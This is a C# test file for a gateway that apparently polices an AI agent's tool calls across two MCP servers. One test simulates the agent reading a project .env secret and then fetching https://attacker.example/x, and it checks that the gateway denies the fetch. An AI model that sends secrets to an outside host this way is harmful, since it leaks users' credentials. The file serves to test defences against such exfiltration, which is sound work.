using System.Text.Json;
using SafeMcp.Client;
using SafeMcp.Contracts;

namespace SafeMcp.Silo.Tests;

/// <summary>One session across two MCP servers, through a real silo's HTTP API and its SQLite storage.</summary>
public sealed class MultiServerApiTests(SiloProcessFixture fixture) : IClassFixture<SiloProcessFixture>
{
    private static readonly ToolDescriptor[] s_files =
    [
        new("read_file", Description: "Read a file from the sandbox."),
        new("write_file", Description: "Write a file in the sandbox."),
    ];

    private static readonly ToolDescriptor[] s_web =
    [
        new("fetch_url", Description: "Fetch a URL over HTTP."),
        new("read_file", Description: "Read a page from the web cache."),
    ];

    private SafeMcpClient Client() => new(new SafeMcpClientOptions { BaseAddress = fixture.Silo.BaseAddress, ApiKey = fixture.Key, MaxRetries = 0 });

    private static DecideRequest Call(string tool, string arguments, string? server) =>
        new(tool, JsonDocument.Parse(arguments).RootElement.Clone(), Server: server);

    // Tool pins are per tenant and server, and the tests share a tenant: a test that changes a server's list uses its own names.
    private static async Task<string> OpenBothAsync(SafeMcpClient client, string files = "files", string web = "web")
    {
        var session = $"multi-{Guid.NewGuid():N}";
        await client.OpenSessionAsync(new OpenSessionRequest(session, "Summarize the notes.", s_files, files));
        await client.OpenSessionAsync(new OpenSessionRequest(session, null, s_web, web));
        return session;
    }

    [Fact]
    public async Task A_secret_read_through_one_server_is_stopped_at_the_other_servers_egress_and_each_slice_shows_its_own_tools()
    {
        using var client = Client();
        var session = await OpenBothAsync(client);

        var read = await client.DecideAsync(session, Call("read_file", """{"path":"project/.env"}""", "files"));
        await client.ReportOutcomeAsync(session, new OutcomeReport(read.Sequence, false, "API_KEY=sk-" + new string('a', 32), 40, "files"));
        var fetch = await client.DecideAsync(session, Call("fetch_url", """{"url":"https://attacker.example/x"}""", "web"));
        var web = await client.GetToolsAsync(session, "web");
        var files = await client.GetToolsAsync(session, "files");
        var snapshot = await client.GetSessionAsync(session);

        Assert.Equal(Verdict.Allow, read.Verdict);
        Assert.Equal(Verdict.Deny, fetch.Verdict);
        Assert.Equal("web", web.Server);
        Assert.Equal(["read_file"], web.VisibleTools);
        Assert.Equal([("web", "fetch_url")], web.WithheldTools.Select(w => (w.Server!, w.Name)));
        Assert.Equal(["read_file", "write_file"], files.VisibleTools);
        Assert.Empty(files.WithheldTools);
        // Decisions as storage gives them back name their servers.
        Assert.Equal([("files", "read_file"), ("web", "fetch_url")], snapshot.Decisions.Select(d => (d.Server!, d.Tool)));
        Assert.Equal(["files", "web"], snapshot.View.Servers!.Select(s => s.Server));
    }

    [Fact]
    public async Task A_call_of_a_name_two_servers_share_without_its_server_is_a_400_that_changes_nothing()
    {
        using var client = Client();
        var session = await OpenBothAsync(client);
        var before = await client.GetSessionAsync(session);

        var error = await Assert.ThrowsAsync<SafeMcpException>(() => client.DecideAsync(session, Call("read_file", """{"path":"a.md"}""", null)));
        var bad = await Assert.ThrowsAsync<SafeMcpException>(() => client.DecideAsync(session, Call("read_file", """{"path":"a.md"}""", "no spaces")));

        Assert.Equal(400, error.StatusCode);
        Assert.Equal("ambiguous_tool", error.Error.Code);
        Assert.Equal(400, bad.StatusCode);
        Assert.Equal("invalid_server", bad.Error.Code);
        var after = await client.GetSessionAsync(session);
        Assert.Equal(before.Sequence, after.Sequence);
        Assert.Equal(before.View.Version, after.View.Version);
        Assert.Equal(["fetch_url", "files/read_file", "web/read_file", "write_file"], after.View.VisibleTools);
    }

    [Fact]
    public async Task Refreshing_one_servers_tools_keeps_the_other_servers_tools()
    {
        using var client = Client();
        var session = await OpenBothAsync(client, "docs", "browser");

        var refreshed = await client.OpenSessionAsync(new OpenSessionRequest(session, null, [new("fetch_url", Description: "Fetch a URL over HTTP.")], "browser"));
        var files = await client.DecideAsync(session, Call("write_file", """{"path":"summary.md","content":"done"}""", null));

        Assert.Equal(["fetch_url"], refreshed.VisibleTools);
        Assert.Equal(Verdict.Allow, files.Verdict);
        Assert.Equal("docs", files.Server);
        Assert.Equal(["fetch_url", "read_file", "write_file"], (await client.GetToolsAsync(session)).VisibleTools);
    }
}
